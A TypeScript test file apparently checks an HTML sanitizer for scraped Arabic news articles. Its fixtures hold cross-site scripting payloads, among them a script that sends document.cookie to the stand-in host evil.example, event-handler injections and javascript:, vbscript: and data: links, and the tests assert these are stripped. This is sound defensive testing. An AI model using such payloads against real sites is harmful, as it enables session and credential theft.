import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sanitizeArticleHtml } from './html.ts';

const BASE = 'https://news.example/world/2023/09/20/story.html';

test('scripts, styles, frames, forms and event handlers are removed with their content', () => {
  const dirty = `
    <p onclick="steal()">قال المتحدث <b onmouseover="x()">الرسمي</b> إن الاجتماع انتهى.</p>
    <script>document.location='https://evil.example/?c='+document.cookie</script>
    <style>p { display: none }</style>
    <iframe src="https://evil.example/frame"></iframe>
    <form action="https://evil.example/post"><input name="q"><button>أرسل</button></form>
    <img src="/img/a.jpg" onerror="alert(1)" alt="صورة من الاجتماع">
    <svg><script>alert(2)</script></svg>
    <object data="x.swf"></object><embed src="y.swf">`;
  const clean = sanitizeArticleHtml(dirty, BASE);
  for (const bad of ['<script', 'alert', 'onclick', 'onerror', 'onmouseover', '<style', '<iframe', '<form', '<input', '<button', '<svg', '<object', '<embed', 'evil.example', 'display']) {
    assert.ok(!clean.includes(bad), `"${bad}" must be gone from: ${clean}`);
  }
  assert.match(clean, /<p>قال المتحدث <b>الرسمي<\/b> إن الاجتماع انتهى.<\/p>/);
  assert.match(clean, /<img src="https:\/\/news.example\/img\/a.jpg" alt="صورة من الاجتماع" \/>/);
});

test('links keep only absolute http(s) targets and get rel="nofollow noopener"', () => {
  const clean = sanitizeArticleHtml(
    `<p><a href="javascript:alert(1)">رابط خبيث</a>
     <a href="JaVaScRiPt:alert(1)">آخر</a>
     <a href="data:text/html;base64,PHNjcmlwdD4=">بيانات</a>
     <a href="vbscript:msgbox">قديم</a>
     <a href="../19/other.html" target="_blank" style="color:red">خبر سابق</a>
     <a href="//cdn.example/file.pdf">ملف</a>
     <a href="#section-2">القسم الثاني</a>
     <a href="mailto:desk@news.example">راسلنا</a></p>`,
    BASE,
  );
  assert.ok(!/javascript|data:|vbscript|mailto|target|style/i.test(clean), clean);
  assert.match(clean, /<a href="https:\/\/news.example\/world\/2023\/09\/19\/other.html" rel="nofollow noopener">خبر سابق<\/a>/);
  assert.match(clean, /<a href="https:\/\/cdn.example\/file.pdf" rel="nofollow noopener">ملف<\/a>/);
  // The words of a dropped link stay in the text.
  for (const words of ['رابط خبيث', 'بيانات', 'القسم الثاني', 'راسلنا']) assert.ok(clean.includes(words), words);
});

test('images need an http(s) source; lazy-loaded sources are used', () => {
  const clean = sanitizeArticleHtml(
    `<figure><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/photos/minister.jpg" alt="الوزير"><figcaption>الوزير خلال المؤتمر</figcaption></figure>
     <p><img src="javascript:alert(1)"></p>
     <p><img src="data:image/png;base64,AAAA"></p>`,
    BASE,
  );
  assert.match(clean, /<figure><img src="https:\/\/news.example\/photos\/minister.jpg" alt="الوزير" \/><figcaption>الوزير خلال المؤتمر<\/figcaption><\/figure>/);
  assert.ok(!clean.includes('data:'));
  assert.ok(!clean.includes('javascript'));
  assert.ok(!/<p>\s*<\/p>/.test(clean), 'paragraphs left empty by a dropped image go too');
});

test('only the allow-listed structure survives; headings are brought into h2–h4', () => {
  const clean = sanitizeArticleHtml(
    `<div class="x" id="y"><h1>عنوان</h1><h5>فرعي</h5><section><p style="font-size:20px">نص <span class="red">ملون</span></p></section>
     <table class="data"><tr><th colspan="2">الدولة</th></tr><tr><td>مصر</td><td>105</td></tr></table>
     <ul><li>أول</li><li></li></ul><p>&nbsp;</p><p> </p><p><br></p><blockquote><p>اقتباس</p></blockquote></div>`,
    BASE,
  );
  assert.ok(!/class=|id=|style=|<div|<section|<span|<h1|<h5/.test(clean), clean);
  assert.ok(clean.includes('<h2>عنوان</h2>'));
  assert.ok(clean.includes('<h4>فرعي</h4>'));
  assert.ok(clean.includes('<p>نص ملون</p>'));
  assert.ok(clean.includes('<th colspan="2">الدولة</th>'));
  assert.ok(clean.includes('<ul><li>أول</li></ul>'), clean);
  assert.ok(!/<p>(\s|&nbsp;|<br \/>)*<\/p>/.test(clean), clean);
  assert.ok(clean.includes('<blockquote><p>اقتباس</p></blockquote>'));
});

test('hostile or odd input never throws', () => {
  for (const input of ['', '<', '<<<a href=">', '<p'.repeat(10000), '\u0000<script', null, undefined, 7]) {
    assert.equal(typeof sanitizeArticleHtml(input as string, BASE), 'string');
  }
  assert.equal(sanitizeArticleHtml('<a href="/x">نص</a>', 'not a url'), 'نص');
});
